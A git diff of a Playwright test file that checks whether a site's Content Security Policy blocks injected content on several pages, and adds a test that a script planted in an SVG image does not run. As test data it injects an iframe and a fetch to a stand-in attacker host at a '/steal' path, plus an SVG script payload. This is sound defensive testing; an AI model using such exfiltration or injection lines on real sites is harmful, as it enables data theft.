@@ -1,4 +1,4 @@
-import { expect, test } from "./test";
+import { expect, formPostOnly, needsLocalServer, test } from "./test";
 
 /** What the test below adds to a page, as the browser names it when it refuses it. */
 const violations = [
@@ -14,10 +14,15 @@ const violations = [
 test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });
 
 for (const address of ["/", "/nothing-here", "/edit/"]) {
-  test(`what somebody puts into ${address} neither runs nor calls home`, async ({ page }) => {
+  test(`what somebody puts into ${address} neither runs nor calls home`, async ({
+    page,
+    baseURL,
+  }) => {
+    const isEditor = address === "/edit/";
+    if (isEditor) needsLocalServer("only the other company's site has the editor");
     // What the editor itself does is tested in edit.spec.ts.
-    await page.route("/edit/sveltia-cms.js", (route) => route.abort());
-    await page.goto(address);
+    await page.route("**/edit/sveltia-cms.js", (route) => route.abort());
+    await page.goto(new URL(address, isEditor ? formPostOnly : baseURL).href);
     await page.evaluate(() => {
       const seen: string[] = [];
       Object.assign(window, { seen });
@@ -34,11 +39,25 @@ for (const address of ["/", "/nothing-here", "/edit/"]) {
       add("iframe", { src: "https://evil.example/" });
       fetch("https://evil.example/steal").catch(() => {});
     });
-    const seen = () => page.evaluate(() => Reflect.get(window, "seen").sort());
+    // Some are refused twice: by the page's own policy, and by the one in public/_headers.
+    const seen = () => page.evaluate(() => [...new Set(Reflect.get(window, "seen"))].sort());
     // The editor's scripts write style elements.
-    const allowed = address === "/edit/" ? "style-src-elem inline" : "";
+    const allowed = isEditor ? "style-src-elem inline" : "";
     await expect.poll(seen).toEqual(violations.filter((one) => one !== allowed));
     await page.getByText("press", { exact: true }).dispatchEvent("click");
     expect(await page.evaluate(() => "hacked" in window)).toBe(false);
   });
 }
+
+test("a drawing with a script in it does not run it when its address is opened", async ({
+  page,
+}) => {
+  await page.route("**/images/logo.svg", async (route) => {
+    const response = await route.fetch();
+    const script = "<script>document.documentElement.id = 'hacked'</script></svg>";
+    await route.fulfill({ response, body: (await response.text()).replace("</svg>", script) });
+  });
+  await page.goto("/images/logo.svg");
+  await expect(page.locator("svg:has(script)")).toBeAttached();
+  await expect(page.locator("#hacked")).toHaveCount(0);
+});
